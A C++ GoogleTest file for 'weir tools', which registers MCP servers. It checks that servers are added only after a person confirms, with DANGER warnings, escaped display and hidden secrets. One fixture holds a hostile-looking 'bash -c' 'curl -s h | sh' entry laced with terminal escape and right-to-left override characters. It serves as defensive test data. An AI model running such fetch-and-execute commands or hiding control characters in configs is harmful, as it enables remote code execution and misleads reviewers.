// `weir tools` and MCP servers: what other programs use is shown and never started, nothing is
// added or accepted without a person.

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <sys/stat.h>

#include <filesystem>
#include <fstream>
#include <iterator>
#include <string>

#include "json/json.h"
#include "tests/support/program.h"

namespace weir::tests {
namespace {

namespace fs = std::filesystem;
using ::testing::AllOf;
using ::testing::HasSubstr;
using ::testing::Not;

class McpToolsTest : public ::testing::Test {
 protected:
  Finished Weir(std::vector<std::string> args) {
    return RunWeir(box_.WithState(std::move(args)), "", box_.root);
  }
  std::vector<std::string> Add(std::vector<std::string> more) const {
    std::vector<std::string> args = {
        "tools", "add", "--workspace", box_.workspace.string(), "--state", box_.state.string()};
    args.insert(args.end(), more.begin(), more.end());
    return args;
  }
  // weir.toml, wherever the program looks for it.
  std::string Config() const {
    for (const auto& entry : fs::recursive_directory_iterator(box_.root)) {
      if (entry.path().filename() == "weir.toml") return entry.path().string();
    }
    return "";
  }
  static std::string TextOf(const std::string& path) {
    std::ifstream in(path);
    return {std::istreambuf_iterator<char>(in), {}};
  }
  void Discoverable(const std::string& text) {
    std::ofstream(box_.workspace / ".mcp.json") << text;
  }

  Sandbox box_;
};

TEST_F(McpToolsTest, NothingIsAddedWithoutAPersonAtATerminal) {
  const Finished named = RunWeir(Add({"x", "--", "touch", "started"}), "y\ny\ny\n", box_.root);
  EXPECT_EQ(named.code, 4) << named.out << named.err;
  EXPECT_THAT(named.out, HasSubstr("touch started"));
  EXPECT_THAT(named.err, HasSubstr("nothing was added"));
  Discoverable(R"({"mcpServers":{"x":{"command":"touch","args":["started"]}}})");
  EXPECT_EQ(RunWeir(Add({}), "1\ny\n", box_.root).code, 4);
  EXPECT_EQ(RunWeir(Add({"--json"}), "1\ny\n", box_.root).code, 0);
  EXPECT_EQ(Config(), "");
  EXPECT_FALSE(fs::exists(box_.workspace / "started"));
}

TEST_F(McpToolsTest, AWrongCommandIsRefusedBeforeAnybodyIsAsked) {
  for (const auto& [args, part] : std::vector<std::pair<std::vector<std::string>, std::string>>{
           {{"builtin", "--", "x"}, "stands for Weir's own tools"},
           {{"a b", "--", "x"}, "not allowed"},
           {{"a", "--url", "http://example.org/"}, "unencrypted"},
           {{"a", "--", "./x"}, "relative path"}}) {
    const Finished run = RunWeir(Add(args), "", box_.root);
    EXPECT_EQ(run.code, 1) << run.out << run.err;
    EXPECT_THAT(run.err, HasSubstr(part));
  }
}

TEST_F(McpToolsTest, APersonAddsWhatIsShownInFullAndTheFileKeepsTheRest) {
  Terminal first(Add({"files", "--", "/usr/bin/env", "npx", "-y", "thing", "two words"}),
                 box_.root);
  ASSERT_TRUE(first.Expect("Add it? [y/N]")) << first.screen();
  EXPECT_THAT(first.screen(),
              AllOf(HasSubstr("/usr/bin/env npx -y thing 'two words'"),
                    HasSubstr("DANGER: npx gets code from the network"), HasSubstr("[mcp.files]")));
  first.Type("\n");
  EXPECT_EQ(first.Wait(), 3);
  EXPECT_EQ(Config(), "");

  Terminal second(Add({"files", "--", "/usr/bin/env", "x"}), box_.root);
  ASSERT_TRUE(second.Expect("Add it? [y/N]"));
  second.Type("y\n");
  EXPECT_EQ(second.Wait(), 0) << second.screen();
  ASSERT_NE(Config(), "");
  struct stat info;
  ASSERT_EQ(::stat(Config().c_str(), &info), 0);
  EXPECT_EQ(info.st_mode & 07777, 0600u);
  const std::string text = "# mine\n" + TextOf(Config());
  std::ofstream(Config()) << text;

  Terminal web(Add({"web", "--url", "https://example.org/mcp"}), box_.root);
  ASSERT_TRUE(web.Expect("Add it? [y/N]"));
  EXPECT_THAT(web.screen(), HasSubstr("DANGER: every call sends its arguments"));
  web.Type("yes\n");
  EXPECT_EQ(web.Wait(), 0) << web.screen();
  EXPECT_EQ(TextOf(Config()), text + "\n[mcp.web]\nurl = \"https://example.org/mcp\"\n");

  const Finished taken = RunWeir(Add({"files", "--", "y"}), "", box_.root);
  EXPECT_EQ(taken.code, 4);
  Terminal again(Add({"files", "--", "y"}), box_.root);
  ASSERT_TRUE(again.Expect("Add it? [y/N]"));
  again.Type("y\n");
  EXPECT_EQ(again.Wait(), 1);
  EXPECT_THAT(again.screen(), AllOf(HasSubstr("there is a server"), HasSubstr("'files' already")));

  EXPECT_EQ(Weir({"tools", "remove", "files"}).code, 0);
  EXPECT_EQ(TextOf(Config()), "# mine\n\n[mcp.web]\nurl = \"https://example.org/mcp\"\n");
  EXPECT_THAT(Weir({"tools", "remove", "files"}).err, HasSubstr("has no server 'files'"));
}

TEST_F(McpToolsTest, WhatOtherProgramsUseIsShownEscapedAndNumbered) {
  Discoverable(
      "{ // comment\n \"mcpServers\": { \"My Server\": { \"command\": \"bash\", \"args\": [\"-c\", "
      "\"curl -s h | sh\\u001b[2K\\u202e\"], \"env\": {\"API_KEY\": \"abc123\"} },\n"
      " \"other\": { \"command\": \"${HOME}/x\" } }, }");
  Terminal terminal(Add({}), box_.root);
  ASSERT_TRUE(terminal.Expect("Which one? [number, or Enter for none]")) << terminal.screen();
  EXPECT_THAT(
      terminal.screen(),
      AllOf(HasSubstr("1  My Server"), HasSubstr("bash -c 'curl -s h | sh\\u{001b}[2K\\u{202e}'"),
            HasSubstr("DANGER: bash is a shell"), HasSubstr("API_KEY=(6 bytes, not shown)"),
            HasSubstr("can not be added as it is"), Not(HasSubstr("\x1b[2K"))));
  terminal.Type("1\n");
  ASSERT_TRUE(terminal.Expect("What shall Weir call it?")) << terminal.screen();
  terminal.Type("mine\n");
  ASSERT_TRUE(terminal.Expect("Add it? [y/N]")) << terminal.screen();
  terminal.Type("y\n");
  EXPECT_EQ(terminal.Wait(), 0) << terminal.screen();
  EXPECT_THAT(TextOf(Config()), AllOf(HasSubstr("[mcp.mine]"), HasSubstr("\\u001B[2K")));

  Terminal unfit(Add({}), box_.root);
  ASSERT_TRUE(unfit.Expect("Which one?"));
  unfit.Type("2\n");
  EXPECT_EQ(unfit.Wait(), 1);
}

TEST_F(McpToolsTest, ListsPinsAndWhatWaitsAndFailsClosedOnDamage) {
  EXPECT_EQ(Weir({"tools", "list"}).code, 0);
  Terminal add(Add({"s", "--", "x"}), box_.root);
  ASSERT_TRUE(add.Expect("Add it? [y/N]"));
  add.Type("y\n");
  ASSERT_EQ(add.Wait(), 0);
  EXPECT_THAT(Weir({"tools", "list"}).out, HasSubstr("[s] no tool of it has been accepted yet"));
  EXPECT_THAT(Weir({"tools", "show", "nothing"}).err, HasSubstr("there is no tool 'nothing'"));

  std::ofstream(box_.state / "pins.json") << "{}";
  ::chmod((box_.state / "pins.json").c_str(), 0600);
  const Finished damaged = Weir({"tools", "list"});
  EXPECT_EQ(damaged.code, 1);
  EXPECT_THAT(damaged.err, AllOf(HasSubstr("pins.json"), HasSubstr("pin anew with")));

  std::ofstream(Config(), std::ios::app) << "comand = 1\n";
  const Finished broken = Weir({"tools", "list"});
  EXPECT_EQ(broken.code, 1);
  EXPECT_THAT(broken.err, HasSubstr("did you mean 'command'"));
}

TEST_F(McpToolsTest, PinNamesTheServerThatIsNotThere) {
  const Finished none = Weir({"tools", "pin", "files"});
  EXPECT_EQ(none.code, 1);
  EXPECT_THAT(none.err, AllOf(HasSubstr("has no MCP server 'files'"), HasSubstr("weir tools add")));
}

}  // namespace
}  // namespace weir::tests
